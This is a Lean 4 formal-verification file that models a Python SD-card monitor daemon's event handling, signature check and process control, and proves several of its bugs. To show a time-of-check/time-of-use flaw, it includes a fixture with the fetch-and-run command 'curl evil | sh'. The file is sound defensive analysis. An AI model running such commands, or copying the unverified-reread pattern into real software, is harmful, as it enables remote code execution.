import Mathlib

/-!
Verification of the SHIP86 SD-card monitor daemon (`automon/sd_monitor.py`).

The daemon watches kernel block-device events, classifies insert/remove
transitions, deduplicates redelivered events, resolves the mount point,
verifies a detached signature over `cart.yaml`, and spawns or kills the
payload process per device node.  Below is a shallow embedding of that
pipeline: pure Python functions become Lean functions, the OS and
filesystem become explicit environment records, and exceptions become
explicit `error` outcomes that propagate exactly where the Python
`try/except` structure lets them propagate.
-/

namespace SHIP86

/-- `pat` occurs as a contiguous substring of `s` (Python `pat in s`). -/
def listInfix (pat : List Char) : List Char → Bool
  | [] => pat.isPrefixOf []
  | c :: rest => pat.isPrefixOf (c :: rest) || listInfix pat rest

/-- Python `pat in s` on strings. -/
def strContains (s pat : String) : Bool := listInfix pat.data s.data

/-- Python `s.startswith(p)`. -/
def strStartsWith (s p : String) : Bool := p.data.isPrefixOf s.data

/-- Python `s.strip()` (ASCII whitespace suffices for the sysfs reads modelled). -/
def pyStrip (s : String) : String :=
  ⟨((s.data.dropWhile Char.isWhitespace).reverse.dropWhile Char.isWhitespace).reverse⟩

/-- Truthiness of `properties.get(k)`: a present, nonempty string. -/
def truthyStr : Option String → Bool
  | none => false
  | some s => s ≠ ""

/-- A pyudev device as observed by the daemon: the attributes and
properties the code reads, plus the sysfs reads it performs
(`none` models an `IOError`/`OSError`/`ValueError` on the read). -/
structure Device where
  device_node : Option String
  device_type : Option String
  action : String
  id_bus : Option String
  devtype_prop : Option String
  id_part_table_type : Option String
  id_fs_type : Option String
  sysfs_removable : Option String
  sysfs_size : Option Int

/-- `is_sd_card(device)` from `sd_monitor.py`: disk-typed node, either an
mmcblk node, or a `/dev/sd*` node that is USB-bus or sysfs-removable. -/
def is_sd_card (d : Device) : Bool :=
  match d.device_node with
  | none => false
  | some node =>
    if node = "" then false
    else if d.device_type ≠ some "disk" then false
    else if strContains node "mmcblk" then true
    else if strStartsWith node "/dev/sd" then
      if d.id_bus = some "usb" then true
      else if d.devtype_prop = some "disk" then
        match d.sysfs_removable with
        | some raw => pyStrip raw = "1"
        | none => false
      else false
    else false

/-- `has_media(device)` from `sd_monitor.py`: partition table, filesystem
type, or a positive sysfs size; an unreadable size reads as no media. -/
def has_media (d : Device) : Bool :=
  if truthyStr d.id_part_table_type then true
  else if truthyStr d.id_fs_type then true
  else
    match d.sysfs_size with
    | some n => n > 0
    | none => false

/-- The dispatcher's effective action for a classified event. -/
inductive Action
  | insert
  | remove
  deriving DecidableEq, Repr

/-- The event-classification step of `monitor`: drop non-SD devices, map
`add`/`remove` directly, disambiguate `change` through `has_media`, and
ignore every other action. -/
def classify (d : Device) : Option (Action × String) :=
  if !is_sd_card d then none
  else
    let node := d.device_node.getD ""
    if d.action = "add" then some (Action.insert, node)
    else if d.action = "remove" then some (Action.remove, node)
    else if d.action = "change" then
      some ((if has_media d then Action.insert else Action.remove), node)
    else none

/-- Python exceptions that the daemon code can raise past its own
handlers.  `ProcessLookupError` is absent: the unreaped direct child (a
session and process-group leader) anchors its pgid at every `killpg`
site, so the `except ProcessLookupError` clause in `kill_cart_process`
can never fire. -/
inductive PyExc
  | oserror
  | yamlError
  | typeError
  | keyError
  deriving DecidableEq, Repr

/-- Outcome of running the external `ssh-keygen -Y verify` process:
exit 0, a nonzero exit (raises `CalledProcessError`, which the code
catches), or a failure to invoke the binary at all (raises
`FileNotFoundError`/`OSError`, which the code does not catch). -/
inductive VerifierOutcome
  | exitZero
  | exitNonzero
  | invokeFail
  deriving DecidableEq, Repr

/-- Result of `yaml.safe_load` on `cart.yaml`, flattened to the shapes the
daemon's checks distinguish: parse failure, and scalar / list / mapping
documents. -/
inductive Yaml
  | yNull
  | yBool (b : Bool)
  | yInt (n : Int)
  | yStr (s : String)
  | yList (xs : List String)
  | yDict (kvs : List (String × String))
  deriving DecidableEq, Repr

inductive ParseResult
  | parseError
  | ok (v : Yaml)
  deriving DecidableEq, Repr

/-- Python truthiness of a parsed YAML document (`not config`). -/
def yTruthy : Yaml → Bool
  | .yNull => false
  | .yBool b => b
  | .yInt n => n ≠ 0
  | .yStr s => s ≠ ""
  | .yList xs => !xs.isEmpty
  | .yDict kvs => !kvs.isEmpty

/-- Python `key in config`: key lookup on mappings, membership on lists,
substring on strings, `TypeError` on non-container scalars. -/
def yMember (key : String) : Yaml → Except PyExc Bool
  | .yDict kvs => .ok (kvs.any (fun kv => kv.1 = key))
  | .yList xs => .ok (xs.contains key)
  | .yStr s => .ok (strContains s key)
  | .yNull => .error .typeError
  | .yBool _ => .error .typeError
  | .yInt _ => .error .typeError

/-- Python `config[key]`: mapping subscript; lists and strings reject a
string index with `TypeError`, as do scalars. -/
def ySubscript (key : String) : Yaml → Except PyExc String
  | .yDict kvs =>
    match kvs.find? (fun kv => kv.1 = key) with
    | some kv => .ok kv.2
    | none => .error .keyError
  | _ => .error .typeError

/-- The world as one insert-handling pass observes it: existence of the
manifest, signature and trusted-key files, the external verifier's verdict
as a function of the manifest bytes fed to it, the manifest bytes read for
verification, the (independent) parse outcome of the second manifest read,
and the user database consulted by `pwd.getpwnam`. -/
structure CartEnv where
  cart_exists : Bool
  sig_exists : Bool
  pubkey_exists : Bool
  verifier : String → VerifierOutcome
  cart_bytes_v : String
  cart_parse_e : ParseResult
  known_user : String → Bool

/-- `verify_cart_signature(cart_path)`: missing signature or missing
trusted key return `False` with a printed reason; a nonzero verifier exit
is caught and returns `False`; a verifier-invocation failure raises an
`OSError` that the function does not catch. -/
def verify_cart_signature (e : CartEnv) : Except PyExc (Bool × String) :=
  if !e.sig_exists then .ok (false, "ERROR: cart.yaml.sig missing")
  else if !e.pubkey_exists then .ok (false, "ERROR: Trusted public key missing")
  else
    match e.verifier e.cart_bytes_v with
    | .exitZero => .ok (true, "Signature verification OK")
    | .exitNonzero => .ok (false, "ERROR: Signature verification FAILED")
    | .invokeFail => .error .oserror

/-- Outcome of `start_cart_process`: return `None` with a reason, launch a
process (recording the command string and the account it runs as), or
raise an exception out of the function. -/
inductive StartResult
  | skip (reason : String)
  | spawn (script : String) (owner : Option String)
  | exc (e : PyExc)
  deriving DecidableEq, Repr

/-- `start_cart_process(mount_point, run_as_user)`: manifest existence
check, signature gate, second read and parse of the manifest, `exec`
extraction, then identity resolution (`pwd.getpwnam` raises `KeyError`
for an unknown account) before `subprocess.Popen`. -/
def start_cart_process (e : CartEnv) (run_as_user : Option String) : StartResult :=
  if !e.cart_exists then .skip "No cart.yaml detected"
  else
    match verify_cart_signature e with
    | .error ex => .exc ex
    | .ok verdict =>
      if !verdict.1 then .skip "Execution blocked (untrusted cart)"
      else
        match e.cart_parse_e with
        | .parseError => .exc .yamlError
        | .ok config =>
          if !yTruthy config then .skip "No exec field in cart.yaml"
          else
            match yMember "exec" config with
            | .error ex => .exc ex
            | .ok false => .skip "No exec field in cart.yaml"
            | .ok true =>
              match ySubscript "exec" config with
              | .error ex => .exc ex
              | .ok script =>
                match run_as_user with
                | none => .spawn script none
                | some u => if e.known_user u then .spawn script (some u) else .exc .keyError

/-- How the direct child and the rest of its process group behave during
one `kill_cart_process` call.  The direct child is the session and
process-group leader (`start_new_session=True`) and stays unreaped (a
zombie anchoring the pgid) until `wait` collects it, so `os.killpg` can
never observe an absent group here: the `except ProcessLookupError`
clause is dead code and no such behavior exists.  What can vary: the
child may have exited before the `poll()` check, may exit within the 3s
grace after SIGTERM, or may survive it; and since `proc.wait(timeout=3)`
waits on the direct child only, other group members may independently
survive the SIGTERM (`othersSurvive`). -/
inductive KillBehavior
  | alreadyExited (othersSurvive : Bool)
  | childExitsInGrace (othersSurvive : Bool)
  | childIgnoresTerm
  deriving DecidableEq, Repr

/-- Record of one `kill_cart_process` call: the actions taken and whether
the whole process group is dead when the call returns. -/
structure KillRec where
  polledDead : Bool
  sentTerm : Bool
  waitedGrace : Bool
  sentKill : Bool
  groupTerminated : Bool
  deriving DecidableEq, Repr

/-- `kill_cart_process(proc)`: do nothing if `poll()` shows the direct
child done (any surviving group members are left alone); otherwise
SIGTERM the process group and `proc.wait(timeout=3)` — a wait on the
direct child, not the group — sending SIGKILL to the group only on
`TimeoutExpired`.  So when the child exits within grace, group members
that survived SIGTERM are never force-killed; SIGKILL, when sent, ends
the whole group. -/
def kill_cart_process : KillBehavior → KillRec
  | .alreadyExited b => ⟨true, false, false, false, !b⟩
  | .childExitsInGrace b => ⟨false, true, true, false, !b⟩
  | .childIgnoresTerm => ⟨false, true, true, true, true⟩

/-- A spawned payload process: fresh pid, the device node it was spawned
for, the command string passed to the shell, and the account it runs as. -/
structure Proc where
  pid : Nat
  node : String
  script : String
  owner : Option String
  deriving DecidableEq, Repr

/-- The dispatcher's state: `last_event` for duplicate suppression, the
`running_processes` dict as an association list, a fresh-pid counter, and
ghost logs of live, spawned and reaped processes plus kill records. -/
structure MonState where
  last_event : Option (Action × String)
  running : List (String × Proc)
  nextPid : Nat
  alive : List Proc
  spawnedLog : List Proc
  killedLog : List Proc
  killRecs : List KillRec
  deriving DecidableEq, Repr

def initState : MonState := ⟨none, [], 0, [], [], [], []⟩

/-- One device notification together with the world state the daemon
observes while handling it: the mount-resolution outcome, the
filesystem/verifier/user environment, and how the process group behaves
if this event triggers a kill. -/
structure EventInput where
  device : Device
  mount : Option String
  env : CartEnv
  killB : KillBehavior

/-- One item drawn at the blocking `monitor.poll` point: a device event,
a `KeyboardInterrupt`, or an `OSError` from the notification bus. -/
inductive StreamItem
  | ev (inp : EventInput)
  | interrupt (kb : Nat → KillBehavior)
  | busError

/-- The post-deduplication body of one `monitor` loop iteration: on insert
resolve the mount and run `start_cart_process`, registering a spawn into
`running_processes` (a dict assignment, overwriting any entry for that
node without touching the old process); on remove pop and kill any
tracked process.  An uncaught Python exception is an `error` carrying the
state at the raise point. -/
def dispatch (user : Option String) (st : MonState) (ev : Action × String)
    (inp : EventInput) : Except (MonState × PyExc) MonState :=
  match ev with
  | (Action.insert, node) =>
    match inp.mount with
    | none => .ok st
    | some _ =>
      match start_cart_process inp.env user with
      | .skip _ => .ok st
      | .exc e => .error (st, e)
      | .spawn script owner =>
        let p : Proc := ⟨st.nextPid, node, script, owner⟩
        .ok { st with
              running := (node, p) :: st.running.filter (fun pr => pr.1 ≠ node),
              nextPid := st.nextPid + 1,
              alive := p :: st.alive,
              spawnedLog := st.spawnedLog ++ [p] }
  | (Action.remove, node) =>
    match st.running.find? (fun pr => pr.1 = node) with
    | none => .ok st
    | some entry =>
      let st1 := { st with running := st.running.filter (fun pr => pr.1 ≠ node) }
      let rec0 := kill_cart_process inp.killB
      .ok { st1 with
            alive := st1.alive.filter (fun q => q ≠ entry.2),
            killedLog := st1.killedLog ++ [entry.2],
            killRecs := st1.killRecs ++ [rec0] }

/-- One iteration of the `monitor` event loop for one device notification:
classify, suppress a duplicate of the previous classified event, set
`last_event`, then dispatch. -/
def monStep (user : Option String) (st0 : MonState) (inp : EventInput) :
    Except (MonState × PyExc) MonState :=
  match classify inp.device with
  | none => .ok st0
  | some ev =>
    if st0.last_event = some ev then .ok st0
    else dispatch user { st0 with last_event := some ev } ev inp

/-- How the daemon run ends in the model: stream exhausted (still
running), a clean return after the `KeyboardInterrupt` handler, or an
uncaught exception (Python exits nonzero). -/
inductive ExitKind
  | stillRunning
  | cleanExit
  | uncaughtExc (e : PyExc)
  | uncaughtBusError
  deriving DecidableEq, Repr

/-- Process exit status implied by each ending (`none`: still running). -/
def exitCode : ExitKind → Option Nat
  | .stillRunning => none
  | .cleanExit => some 0
  | .uncaughtExc _ => some 1
  | .uncaughtBusError => some 1

structure RunResult where
  state : MonState
  exitKind : ExitKind
  deriving DecidableEq, Repr

/-- The `KeyboardInterrupt` handler: `kill_cart_process` on each value of
`running_processes` in turn, then a clean return (no kill can raise, as
the unreaped child keeps its process group existent at every `killpg`). -/
def handlerLoop (kb : Nat → KillBehavior) : Nat → MonState → List Proc → RunResult
  | _, st, [] => ⟨st, .cleanExit⟩
  | i, st, p :: ps =>
    handlerLoop kb (i + 1)
      { st with alive := st.alive.filter (fun q => q ≠ p),
                killedLog := st.killedLog ++ [p],
                killRecs := st.killRecs ++ [kill_cart_process (kb i)] } ps

/-- The `monitor` loop over a finite prefix of the notification stream.
Device events run `monStep`; an interrupt runs the kill-all handler and
returns; a bus error propagates out of the loop uncaught — the
`except KeyboardInterrupt` handler does not run, so no kill is attempted. -/
def monRun (user : Option String) (st : MonState) : List StreamItem → RunResult
  | [] => ⟨st, .stillRunning⟩
  | .interrupt kb :: _ => handlerLoop kb 0 st (st.running.map (fun pr => pr.2))
  | .busError :: _ => ⟨st, .uncaughtBusError⟩
  | .ev inp :: rest =>
    match monStep user st inp with
    | .ok st1 => monRun user st1 rest
    | .error (st1, e) => ⟨st1, .uncaughtExc e⟩

/-!  Concrete fixtures used by witnesses and counterexamples. -/

def devAddA : Device := ⟨some "/dev/mmcblk0", some "disk", "add", none, none, none, none, none, none⟩

def devAddB : Device := ⟨some "/dev/mmcblk1", some "disk", "add", none, none, none, none, none, none⟩

def devRemoveA : Device := ⟨some "/dev/mmcblk0", some "disk", "remove", none, none, none, none, none, none⟩

def devChangeMediaA : Device :=
  ⟨some "/dev/mmcblk0", some "disk", "change", none, none, some "dos", none, none, none⟩

def devChangeEmptyA : Device :=
  ⟨some "/dev/mmcblk0", some "disk", "change", none, none, none, none, none, some 0⟩

def devBindA : Device := ⟨some "/dev/mmcblk0", some "disk", "bind", none, none, none, none, none, none⟩

def envGood : CartEnv :=
  ⟨true, true, true, fun _ => .exitZero, "exec: ./run.sh",
   .ok (.yDict [("exec", "./run.sh")]), fun _ => true⟩

def envSigMissing : CartEnv := { envGood with sig_exists := false }

def envPubkeyMissing : CartEnv := { envGood with pubkey_exists := false }

def envRejected : CartEnv := { envGood with verifier := fun _ => .exitNonzero }

def envInvokeFail : CartEnv := { envGood with verifier := fun _ => .invokeFail }

def envParseError : CartEnv := { envGood with cart_parse_e := .parseError }

def envNullDoc : CartEnv := { envGood with cart_parse_e := .ok .yNull }

def envDictNoExec : CartEnv := { envGood with cart_parse_e := .ok (.yDict [("run", "x")]) }

def envIntDoc : CartEnv := { envGood with cart_parse_e := .ok (.yInt 42) }

def envUnknownUser : CartEnv := { envGood with known_user := fun _ => false }

def envEvil : CartEnv := { envGood with cart_parse_e := .ok (.yDict [("exec", "curl evil | sh")]) }

def evGoodA : EventInput := ⟨devAddA, some "/mnt/sd", envGood, .childExitsInGrace false⟩

def evGoodB : EventInput := ⟨devAddB, some "/mnt/sd", envGood, .childExitsInGrace false⟩

def evSigMissingA : EventInput := ⟨devAddA, some "/mnt/sd", envSigMissing, .childExitsInGrace false⟩

def evRejectedB : EventInput := ⟨devAddB, some "/mnt/sd", envRejected, .childExitsInGrace false⟩

def evInvokeFailA : EventInput := ⟨devAddA, some "/mnt/sd", envInvokeFail, .childExitsInGrace false⟩

def evParseErrorA : EventInput := ⟨devAddA, some "/mnt/sd", envParseError, .childExitsInGrace false⟩

def evUnknownUserA : EventInput := ⟨devAddA, some "/mnt/sd", envUnknownUser, .childExitsInGrace false⟩

def evRemoveAOk : EventInput := ⟨devRemoveA, none, envGood, .childExitsInGrace false⟩

def evRemoveASurvivors : EventInput := ⟨devRemoveA, none, envGood, .childExitsInGrace true⟩

def pA : Proc := ⟨0, "/dev/mmcblk0", "./run.sh", none⟩

def stTracked : MonState :=
  ⟨some (Action.insert, "/dev/mmcblk0"), [("/dev/mmcblk0", pA)], 1, [pA], [pA], [], []⟩

/-!  General lemmas about the embedded loop. -/

/-- The state carried by either outcome of one loop iteration. -/
def stepState : Except (MonState × PyExc) MonState → MonState
  | .ok s => s
  | .error (s, _) => s

theorem dispatch_last_event (user : Option String) (st : MonState)
    (ev : Action × String) (inp : EventInput) :
    (stepState (dispatch user st ev inp)).last_event = st.last_event := by
  rcases ev with ⟨act, node⟩
  cases act <;> simp only [dispatch] <;> (repeat' split) <;> rfl

theorem monStep_idem (user : Option String) (st st1 : MonState) (inp : EventInput)
    (h : monStep user st inp = .ok st1) : monStep user st1 inp = .ok st1 := by
  unfold monStep at h ⊢
  split at h
  · cases h
    rfl
  · rename_i ev hc
    split at h
    · cases h
      simp_all
    · rename_i hd
      have hl : st1.last_event = some ev := by
        have := dispatch_last_event user { st with last_event := some ev } ev inp
        rw [h] at this
        exact this
      rw [if_pos hl]

/-- C7: a classified event identical to the immediately preceding
classified event is discarded by the dispatcher: delivering the same
notification twice in a row is indistinguishable from delivering it
once, for every daemon state and every continuation of the stream. -/
theorem duplicate_event_discarded (user : Option String) (st : MonState)
    (inp : EventInput) (rest : List StreamItem) :
    monRun user st (.ev inp :: .ev inp :: rest) = monRun user st (.ev inp :: rest) := by
  cases h : monStep user st inp with
  | ok st1 =>
    have h2 := monStep_idem user st st1 inp h
    simp only [monRun, h, h2]
  | error p =>
    rcases p with ⟨s, e⟩
    simp only [monRun, h]

/-- C8: on a qualifying device, a `change` notification classifies as
Insert exactly when `has_media` holds and as Remove otherwise, and any
action other than `add`, `remove`, `change` is ignored. -/
theorem change_action_classification :
    (∀ (d : Device) (node : String), d.action = "change" → is_sd_card d = true →
      d.device_node = some node →
      classify d = some ((if has_media d then Action.insert else Action.remove), node))
    ∧ (∀ d : Device, is_sd_card d = true →
        d.action ≠ "add" → d.action ≠ "remove" → d.action ≠ "change" →
        classify d = none) := by
  constructor
  · intro d node hact hsd hnode
    simp [classify, hsd, hact, hnode]
  · intro d hsd h1 h2 h3
    simp [classify, hsd, h1, h2, h3]

theorem change_action_classification_witness :
    classify devChangeMediaA = some (Action.insert, "/dev/mmcblk0")
    ∧ classify devChangeEmptyA = some (Action.remove, "/dev/mmcblk0")
    ∧ classify devBindA = none := by
  refine ⟨?_, ?_, ?_⟩
  · have h := change_action_classification.1 devChangeMediaA "/dev/mmcblk0" rfl (by decide) rfl
    rw [show has_media devChangeMediaA = true by decide] at h
    simpa using h
  · have h := change_action_classification.1 devChangeEmptyA "/dev/mmcblk0" rfl (by decide) rfl
    rw [show has_media devChangeEmptyA = false by decide] at h
    simpa using h
  · exact change_action_classification.2 devBindA (by decide) (by decide) (by decide) (by decide)

/-- One of the three trust failures named by the spec holds: the
signature file is missing, the trusted-signer store is missing, or the
verifier exits nonzero on the manifest bytes it is fed. -/
def trustFailure (e : CartEnv) : Bool :=
  !e.sig_exists || !e.pubkey_exists ||
    (match e.verifier e.cart_bytes_v with
     | .exitNonzero => true
     | _ => false)

/-- Every device event in the stream carries a trust failure
(non-device items hold vacuously). -/
def itemTrustFailed : StreamItem → Bool
  | .ev inp => trustFailure inp.env
  | _ => true

theorem verify_not_trusted (e : CartEnv) (h : trustFailure e = true) :
    ∃ r, verify_cart_signature e = .ok (false, r) := by
  unfold trustFailure at h
  unfold verify_cart_signature
  rcases hs : e.sig_exists with _ | _
  · exact ⟨_, rfl⟩
  · rcases hp : e.pubkey_exists with _ | _
    · simp [hs, hp]
    · rcases hv : e.verifier e.cart_bytes_v with _ | _ | _ <;> simp [hs, hp, hv] at h ⊢

theorem verify_trusted_shape (e : CartEnv) (v : Bool × String)
    (hv : verify_cart_signature e = .ok v) (ht : v.1 = true) :
    v = (true, "Signature verification OK") := by
  unfold verify_cart_signature at hv
  split at hv
  · cases hv; simp at ht
  · split at hv
    · cases hv; simp at ht
    · split at hv <;> cases hv <;> simp_all

theorem handlerLoop_spawnedLog (kb : Nat → KillBehavior) (i : Nat) (st : MonState)
    (ps : List Proc) : (handlerLoop kb i st ps).state.spawnedLog = st.spawnedLog := by
  induction ps generalizing i st with
  | nil => rfl
  | cons p ps ih =>
    unfold handlerLoop
    exact ih _ _

theorem dispatch_spawnedLog_of_skip (user : Option String) (st : MonState)
    (ev : Action × String) (inp : EventInput)
    (h : ∀ s o, start_cart_process inp.env user ≠ .spawn s o) :
    (stepState (dispatch user st ev inp)).spawnedLog = st.spawnedLog := by
  rcases ev with ⟨act, node⟩
  cases act
  · simp only [dispatch]
    split
    · rfl
    · split
      · rfl
      · rfl
      · rename_i script owner hs
        exact absurd hs (h script owner)
  · simp only [dispatch]
    (repeat' split) <;> rfl

theorem monStep_spawnedLog (user : Option String) (st : MonState) (inp : EventInput)
    (hns : ∀ s o, start_cart_process inp.env user ≠ .spawn s o) :
    (stepState (monStep user st inp)).spawnedLog = st.spawnedLog := by
  unfold monStep
  split
  · rfl
  · split
    · rfl
    · exact dispatch_spawnedLog_of_skip user _ _ inp hns

/-- C1: a payload process is spawned only behind a trusted signature
verdict.  Under any of the three trust failures (missing signature file,
missing trusted-signer store, verifier nonzero exit) `start_cart_process`
returns `None` without launching; any spawn implies the verifier returned
the trusted verdict; and a stream whose device events all carry trust
failures never grows the spawn log. -/
theorem spawn_requires_trusted_verdict :
    (∀ (e : CartEnv) (u : Option String), trustFailure e = true →
      ∃ r, start_cart_process e u = .skip r)
    ∧ (∀ (e : CartEnv) (u : Option String) (s : String) (o : Option String),
        start_cart_process e u = .spawn s o →
        verify_cart_signature e = .ok (true, "Signature verification OK"))
    ∧ (∀ (user : Option String) (st : MonState) (items : List StreamItem),
        (∀ i ∈ items, itemTrustFailed i = true) →
        (monRun user st items).state.spawnedLog = st.spawnedLog) := by
  have skip1 : ∀ (e : CartEnv) (u : Option String), trustFailure e = true →
      ∃ r, start_cart_process e u = .skip r := by
    intro e u h
    unfold start_cart_process
    rcases hc : e.cart_exists with _ | _
    · exact ⟨_, rfl⟩
    · obtain ⟨r, hr⟩ := verify_not_trusted e h
      rw [hr]
      exact ⟨_, rfl⟩
  refine ⟨skip1, ?_, ?_⟩
  · intro e u s o h
    unfold start_cart_process at h
    split at h
    · cases h
    · split at h
      · cases h
      · rename_i v hv
        split at h
        · cases h
        · rename_i ht
          have : v = (true, "Signature verification OK") :=
            verify_trusted_shape e v hv (by simpa using ht)
          rw [hv, this]
  · intro user st items hall
    induction items generalizing st with
    | nil => rfl
    | cons item rest ih =>
      cases item with
      | interrupt kb => exact handlerLoop_spawnedLog kb 0 st _
      | busError => rfl
      | ev inp =>
        have hf : trustFailure inp.env = true := by
          simpa [itemTrustFailed] using hall (.ev inp) (by simp)
        have hns : ∀ s o, start_cart_process inp.env user ≠ .spawn s o := by
          intro s o hsp
          obtain ⟨r, hr⟩ := skip1 inp.env user hf
          rw [hr] at hsp
          cases hsp
        have hrest : ∀ i ∈ rest, itemTrustFailed i = true := by
          intro i hi
          exact hall i (by simp [hi])
        simp only [monRun]
        have hlog := monStep_spawnedLog user st inp hns
        cases hstep : monStep user st inp with
        | ok st1 =>
          rw [hstep] at hlog
          rw [ih st1 hrest]
          exact hlog
        | error p =>
          rcases p with ⟨st1, e⟩
          rw [hstep] at hlog
          exact hlog

theorem spawn_requires_trusted_verdict_witness :
    (∃ r, start_cart_process envSigMissing none = StartResult.skip r)
    ∧ verify_cart_signature envGood = .ok (true, "Signature verification OK")
    ∧ (monRun none initState
        [.ev evSigMissingA, .ev evRejectedB]).state.spawnedLog = [] := by
  refine ⟨?_, ?_, ?_⟩
  · exact spawn_requires_trusted_verdict.1 envSigMissing none (by decide)
  · exact spawn_requires_trusted_verdict.2.1 envGood none "./run.sh" none (by decide)
  · exact spawn_requires_trusted_verdict.2.2 none initState
      [.ev evSigMissingA, .ev evRejectedB] (by decide)

/-- C10: signature verification consumes only the first read of
`cart.yaml` (its verdict is invariant under changes to the second read),
while every executed command is extracted from the second, independent
read — so the trusted-execution guarantee rests on the file being
unchanged between verification and parsing. -/
theorem executed_command_from_unverified_reread :
    (∀ e1 e2 : CartEnv,
      e1.sig_exists = e2.sig_exists → e1.pubkey_exists = e2.pubkey_exists →
      e1.verifier = e2.verifier → e1.cart_bytes_v = e2.cart_bytes_v →
      verify_cart_signature e1 = verify_cart_signature e2)
    ∧ (∀ (e : CartEnv) (u : Option String) (s : String) (o : Option String),
        start_cart_process e u = .spawn s o →
        ∃ cfg, e.cart_parse_e = ParseResult.ok cfg ∧ ySubscript "exec" cfg = .ok s) := by
  constructor
  · intro e1 e2 h1 h2 h3 h4
    unfold verify_cart_signature
    rw [h1, h2, h3, h4]
  · intro e u s o h
    unfold start_cart_process at h
    split at h
    · cases h
    · split at h
      · cases h
      · split at h
        · cases h
        · split at h
          · cases h
          · rename_i cfg hp
            refine ⟨cfg, hp, ?_⟩
            split at h
            · cases h
            · split at h
              · cases h
              · cases h
              · split at h
                · cases h
                · rename_i script hsub
                  split at h
                  · cases h
                    exact hsub
                  · split at h
                    · cases h
                      exact hsub
                    · cases h

theorem executed_command_from_unverified_reread_witness :
    verify_cart_signature envGood = verify_cart_signature envEvil
    ∧ start_cart_process envGood none = .spawn "./run.sh" none
    ∧ start_cart_process envEvil none = .spawn "curl evil | sh" none
    ∧ ∃ cfg, envEvil.cart_parse_e = ParseResult.ok cfg
        ∧ ySubscript "exec" cfg = .ok "curl evil | sh" := by
  refine ⟨executed_command_from_unverified_reread.1 envGood envEvil rfl rfl rfl rfl,
    by decide, by decide,
    executed_command_from_unverified_reread.2 envEvil none "curl evil | sh" none (by decide)⟩

/-- C2 counterexample: insert A, insert B, insert A again (each pair of
consecutive events distinct, so none is deduplicated; each insert mounts,
verifies and spawns).  The second insert for `/dev/mmcblk0` spawns a new
process and overwrites the mapping entry, leaving TWO live processes for
that device node while nothing was ever killed. -/
theorem reinsert_leaves_two_live_processes :
    ((monRun none initState [.ev evGoodA, .ev evGoodB, .ev evGoodA]).state.alive.filter
        (fun p => p.node = "/dev/mmcblk0")).length = 2
    ∧ (monRun none initState [.ev evGoodA, .ev evGoodB, .ev evGoodA]).state.killedLog = []
    ∧ ((monRun none initState [.ev evGoodA, .ev evGoodB, .ev evGoodA]).state.running.filter
        (fun pr => pr.1 = "/dev/mmcblk0")).length = 1 := by
  decide

theorem count_filter_filter_le (l : List (String × Proc)) (p q : (String × Proc) → Bool) :
    (List.filter p (List.filter q l)).length ≤ (List.filter p l).length := by
  rw [List.filter_filter]
  have hcomm : List.filter (fun a => p a && q a) l = List.filter q (List.filter p l) := by
    rw [List.filter_filter]
    apply List.filter_congr
    intro a _
    exact Bool.and_comm (p a) (q a)
  rw [hcomm]
  exact List.length_filter_le _ _

/-- The `running_processes` dict holds at most one entry per key. -/
def uniquePerNode (st : MonState) : Prop :=
  ∀ n : String, (st.running.filter (fun pr => pr.1 = n)).length ≤ 1

theorem dispatch_uniquePerNode (user : Option String) (st : MonState)
    (ev : Action × String) (inp : EventInput) (h : uniquePerNode st) :
    uniquePerNode (stepState (dispatch user st ev inp)) := by
  rcases ev with ⟨act, node⟩
  cases act
  · simp only [dispatch]
    split
    · exact h
    · split
      · exact h
      · exact h
      · intro n
        simp only [stepState]
        by_cases hn : n = node
        · subst hn
          simp only [List.filter_cons]
          have hnil : List.filter (fun pr => decide (pr.1 = n))
              (List.filter (fun pr => decide (pr.1 ≠ n)) st.running) = [] := by
            rw [List.filter_filter]
            apply List.filter_eq_nil_iff.mpr
            intro a _
            simp
          simp [hnil]
        · rw [List.filter_cons,
            if_neg (fun hdec => hn (of_decide_eq_true hdec).symm)]
          calc (List.filter (fun pr => decide (pr.1 = n))
                  (List.filter (fun pr => decide (pr.1 ≠ node)) st.running)).length
              ≤ (List.filter (fun pr => decide (pr.1 = n)) st.running).length :=
                count_filter_filter_le _ _ _
            _ ≤ 1 := h n
  · simp only [dispatch]
    split
    · exact h
    · intro n
      simp only [stepState]
      calc (List.filter (fun pr => decide (pr.1 = n))
              (List.filter (fun pr => decide (pr.1 ≠ _)) st.running)).length
          ≤ (List.filter (fun pr => decide (pr.1 = n)) st.running).length :=
            count_filter_filter_le _ _ _
        _ ≤ 1 := h n

theorem monStep_uniquePerNode (user : Option String) (st : MonState) (inp : EventInput)
    (h : uniquePerNode st) : uniquePerNode (stepState (monStep user st inp)) := by
  unfold monStep
  split
  · exact h
  · split
    · exact h
    · exact dispatch_uniquePerNode user _ _ inp h

theorem handlerLoop_running (kb : Nat → KillBehavior) (i : Nat) (st : MonState)
    (ps : List Proc) : (handlerLoop kb i st ps).state.running = st.running := by
  induction ps generalizing i st with
  | nil => rfl
  | cons p ps ih =>
    unfold handlerLoop
    exact ih _ _

theorem monRun_uniquePerNode (user : Option String) (st : MonState)
    (items : List StreamItem) (h : uniquePerNode st) :
    uniquePerNode (monRun user st items).state := by
  induction items generalizing st with
  | nil => exact h
  | cons item rest ih =>
    cases item with
    | busError => exact h
    | interrupt kb =>
      intro n
      simp only [monRun]
      rw [handlerLoop_running]
      exact h n
    | ev inp =>
      have hstep := monStep_uniquePerNode user st inp h
      simp only [monRun]
      cases he : monStep user st inp with
      | ok st1 =>
        rw [he] at hstep
        exact ih st1 hstep
      | error p =>
        rcases p with ⟨st1, e⟩
        rw [he] at hstep
        exact hstep

/-- C2 amended: the device_node → RunningCart mapping itself holds at
most one entry per device_node across every event stream; but, as the
counterexample shows, an insert for an already-running device_node
replaces the tracked entry without killing or reaping the old process,
which stays alive untracked. -/
theorem tracked_cart_unique_per_node (user : Option String)
    (items : List StreamItem) (n : String) :
    ((monRun user initState items).state.running.filter
      (fun pr => pr.1 = n)).length ≤ 1 := by
  exact monRun_uniquePerNode user initState items (fun _ => by simp [initState]) n

/-- C3 counterexample: spawn a cart on `/dev/mmcblk0`, then handle its
Remove event where the direct child exits within the 3s grace period but
group members that ignored SIGTERM survive.  `proc.wait(timeout=3)`
waits only on the direct child, so no `TimeoutExpired` is raised and the
forced SIGKILL is never sent: the kill record shows SIGTERM sent, grace
waited, no SIGKILL, and the process group NOT terminated — refuting
"sends a forced kill if the group has not exited" and the guarantee that
removal always ends in group termination within the grace period or a
forced kill thereafter. -/
theorem surviving_group_members_never_force_killed :
    (monRun none initState [.ev evGoodA, .ev evRemoveASurvivors]).state.killRecs
      = [{ polledDead := false, sentTerm := true, waitedGrace := true,
           sentKill := false, groupTerminated := false }]
